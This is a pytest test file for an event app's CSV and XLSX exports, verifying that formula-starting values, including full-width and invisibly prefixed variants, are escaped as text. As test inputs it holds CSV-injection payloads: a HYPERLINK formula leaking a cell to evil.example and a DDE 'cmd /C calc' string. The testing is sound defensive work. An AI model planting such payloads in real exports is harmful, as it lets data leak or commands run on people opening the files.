"""The shared CSV/XLSX writing (eventhub/exports.py): one content type, a BOM, and no formula runs in Excel.

A delegate who types "=HYPERLINK(...)" as their name must show up as that text in every export the
secretariat opens in Excel: the registration list, the site-visit manifest and the attendance lists.
"""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, time

import pytest
from openpyxl import load_workbook

from eventhub.exports import csv_bytes, escape_cell
from eventhub.extensions import db
from eventhub.signups.models import Booking, BookingStatus

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


@pytest.mark.parametrize("text", ["=cmd", "+cmd", "-cmd", "@cmd", "\tcmd", "\rcmd"])
def test_every_formula_start_is_escaped(text):
    assert escape_cell(text) == "'" + text
    assert escape_cell("Wei") == "Wei" and escape_cell(-5) == -5 and escape_cell(None) is None
    data = csv_bytes(["Name"], [[text, 3]])
    assert data.startswith(b"\xef\xbb\xbf")
    assert list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))[1] == ["'" + text, "3"]


@pytest.mark.parametrize("text", [
    "\uff1dcmd|' /C calc'!A0",  # full-width ＝
    "\uff0bcmd", "\uff0dcmd", "\uff20SUM(A1)",  # full-width ＋ － ＠
    "\ufe66cmd", "\ufe62cmd", "\ufe63cmd", "\u207acmd", "\u2212cmd",  # small / superscript forms, minus sign
    " =cmd", "   +cmd", "\u00a0=cmd", "\u3000\uff1dcmd", "\n=cmd", "\x0b=cmd", "\x0c@cmd",  # leading blanks
    "\u200b=cmd", "\ufeff=cmd", "\u200e-cmd", " \t=cmd", "\ncmd",  # invisible characters, line feed
])
def test_disguised_formula_starts_are_escaped(text):
    assert escape_cell(text) == "'" + text
    data = csv_bytes(["Name"], [[text]])
    assert list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))[1] == ["'" + text]


@pytest.mark.parametrize("text", ["Wei", "陈伟", "a=b", "  Wei", "Lee-Smith", "\u3000王", "", "   ", "ｗｅｉ"])
def test_ordinary_text_is_left_alone(text):
    assert escape_cell(text) == text


def test_xlsx_marks_a_full_width_formula_as_text(client, make, login_as):
    event = make.event(slug="wide")
    make.registration(event, economy="PRC", given_name="\uff1dHYPERLINK(1)", family_name="Chen",
                      phone=" =cmd")
    login_as(make.staff(event, "organizer"))
    sheet = load_workbook(io.BytesIO(client.get(f"/events/{event.slug}/registrations/export.xlsx").data)).active
    header = [c.value for c in sheet[1]]
    given, phone = (sheet.cell(row=2, column=header.index(h) + 1) for h in ("Given name", "Phone"))
    assert given.value == "\uff1dHYPERLINK(1)" and given.quotePrefix
    assert phone.value == " =cmd" and phone.quotePrefix


@pytest.fixture
def evil(make):
    event = make.event(slug="evil", title="Workshop")
    reg = make.registration(event, economy="PRC", given_name=EVIL, family_name="Chen", name_local="陈伟",
                            phone="=cmd|' /C calc'!A0")
    visit = make.session(event, kind="site_visit", title="Visit", bookable=True, capacity=5, start="14:00",
                         end="17:00")
    db.session.add(Booking(session_id=visit.id, registration_id=reg.id, economy_id=reg.economy_id,
                           status=BookingStatus.CONFIRMED))
    db.session.commit()
    return event, visit, make.staff(event, "organizer")


def _csv(response) -> list[list[str]]:
    assert response.status_code == 200
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"  # the charset once, not twice
    assert response.headers.get_all("Content-Type") == ["text/csv; charset=utf-8"]
    assert response.data.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))


def test_registration_export_escapes_formulas(client, evil, login_as):
    event, _visit, organizer = evil
    login_as(organizer)
    rows = _csv(client.get(f"/events/{event.slug}/registrations/export.csv"))
    header, row = rows[0], rows[1]
    assert row[header.index("Given name")] == "'" + EVIL and row[header.index("Name in local script")] == "陈伟"
    assert row[header.index("Phone")].startswith("'=")
    book = load_workbook(io.BytesIO(client.get(f"/events/{event.slug}/registrations/export.xlsx").data))
    values = list(book.active.values)
    cell = book.active.cell(row=2, column=values[0].index("Given name") + 1)
    assert cell.value == EVIL and cell.data_type == "s" and cell.quotePrefix  # text as typed, never a formula


def test_attendance_session_list_escapes_formulas(client, evil, login_as):
    event, visit, organizer = evil
    login_as(organizer)
    rows = _csv(client.get(f"/events/{event.slug}/reports/sessions/{visit.id}.csv"))
    assert rows[2][:3] == ["'" + EVIL, "CHEN", "陈伟"]
    summary = _csv(client.get(f"/events/{event.slug}/reports/attendance.csv"))
    assert summary[0] == ["Summary"]
    xlsx = client.get(f"/events/{event.slug}/reports/attendance.xlsx")
    assert xlsx.headers["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def test_manifest_escapes_formulas(client, evil, login_as):
    event, visit, organizer = evil
    login_as(organizer)
    response = client.get(f"/events/{event.slug}/sessions/{visit.id}/manifest.csv")
    assert response.data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))
    header, row = rows[0], rows[1]
    assert row[header.index("Given name")] == "'" + EVIL and row[header.index("Name (local)")] == "陈伟"
    assert row[header.index("Phone")].startswith("'=")
    sheet = load_workbook(io.BytesIO(client.get(f"/events/{event.slug}/sessions/{visit.id}/manifest.xlsx").data)
                          ).active
    cell = sheet.cell(row=4, column=4)
    assert cell.value == EVIL and cell.data_type == "s" and cell.quotePrefix


def test_manifest_csv_sends_its_charset_once(client, evil, login_as):
    event, visit, organizer = evil
    login_as(organizer)
    _csv(client.get(f"/events/{event.slug}/sessions/{visit.id}/manifest.csv"))


@pytest.fixture
def dated(make):
    event = make.event(slug="dated", title="Workshop")  # Asia/Shanghai
    reg = make.registration(event, economy="PRC", given_name="Wei", family_name="Chen", phone="+86 138 0013 8000",
                            arrival_at=datetime(2025, 6, 27, 6, 30, tzinfo=UTC))
    reg.created_at = datetime(2025, 5, 1, 16, 5, tzinfo=UTC)  # 00:05 on 2 May in Shanghai
    visit = make.session(event, kind="site_visit", title="Visit", bookable=True, capacity=5, start="14:00",
                         end="17:00")
    db.session.add(Booking(session_id=visit.id, registration_id=reg.id, economy_id=reg.economy_id,
                           status=BookingStatus.CONFIRMED))
    db.session.commit()
    return event, visit, make.staff(event, "organizer")


def test_registration_xlsx_has_plain_phone_numbers_and_real_zoned_dates(client, dated, login_as):
    event, _visit, organizer = dated
    login_as(organizer)
    sheet = load_workbook(io.BytesIO(client.get(f"/events/{event.slug}/registrations/export.xlsx").data)).active
    header = [c.value for c in sheet[1]]
    assert "Registered (Asia/Shanghai)" in header and "Arrival (Asia/Shanghai)" in header
    assert "Registered" not in header
    row = {h: c for h, c in zip(header, sheet[2], strict=True)}
    assert row["Phone"].value == "+86 138 0013 8000"  # no apostrophe showing in Excel
    assert row["Phone"].data_type == "s" and row["Phone"].quotePrefix  # yet never read as a formula
    assert row["Registered (Asia/Shanghai)"].value == datetime(2025, 5, 2, 0, 5)  # a date cell, event-local
    assert row["Registered (Asia/Shanghai)"].is_date and "yy" in row["Registered (Asia/Shanghai)"].number_format
    assert row["Arrival (Asia/Shanghai)"].value == datetime(2025, 6, 27, 14, 30)
    assert row["Departure (Asia/Shanghai)"].value is None
    assert row["Given name"].value == "Wei" and not row["Given name"].quotePrefix


def test_registration_csv_names_the_zone_of_its_times(client, dated, login_as):
    event, _visit, organizer = dated
    login_as(organizer)
    rows = list(csv.DictReader(io.StringIO(
        client.get(f"/events/{event.slug}/registrations/export.csv").data.decode("utf-8-sig"))))
    assert rows[0]["Registered (Asia/Shanghai)"] == "2025-05-02 00:05"
    assert rows[0]["Arrival (Asia/Shanghai)"] == "2025-06-27 14:30" and rows[0]["Departure (Asia/Shanghai)"] == ""
    assert rows[0]["Phone"] == "'+86 138 0013 8000"  # CSV has no cell types: the apostrophe is the guard


def test_manifest_xlsx_phone_is_plain_text(client, dated, login_as):
    event, visit, organizer = dated
    login_as(organizer)
    sheet = load_workbook(io.BytesIO(client.get(f"/events/{event.slug}/sessions/{visit.id}/manifest.xlsx").data)
                          ).active
    header = [c.value for c in sheet[3]]
    phone = sheet.cell(row=4, column=header.index("Phone") + 1)
    assert phone.value == "+86 138 0013 8000" and phone.data_type == "s"


def test_attendance_xlsx_session_starts_are_date_cells(client, dated, login_as):
    event, visit, organizer = dated
    login_as(organizer)
    book = load_workbook(io.BytesIO(client.get(f"/events/{event.slug}/reports/attendance.xlsx").data))
    sessions = book["Per session"]
    assert sessions.cell(row=1, column=1).value == "Starts (Asia/Shanghai)"
    starts = sessions.cell(row=2, column=1)
    assert starts.is_date and starts.value == datetime.combine(event.start_date, time(14, 0))
    days = book["Per day"]
    assert days.cell(row=2, column=1).is_date and days.cell(row=2, column=1).value.date() == event.start_date
